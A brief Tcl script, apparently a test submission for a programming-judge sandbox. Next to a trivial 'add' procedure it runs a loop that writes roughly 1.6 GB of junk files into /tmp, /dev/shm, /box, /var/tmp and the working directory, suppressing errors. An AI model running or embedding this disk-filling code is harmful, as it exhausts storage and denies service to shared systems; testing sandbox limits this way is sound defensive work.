set block [string repeat x 1048576]
foreach folder {/tmp /dev/shm /box /var/tmp .} {
    for {set number 0} {$number < 20} {incr number} {
        catch {
            set file [open $folder/$number w]
            for {set i 0} {$i < 16} {incr i} {
                puts -nonewline $file $block
                flush $file
            }
        }
        catch {close $file}
    }
}

proc add {a b} {
    return [expr {$a + $b}]
}
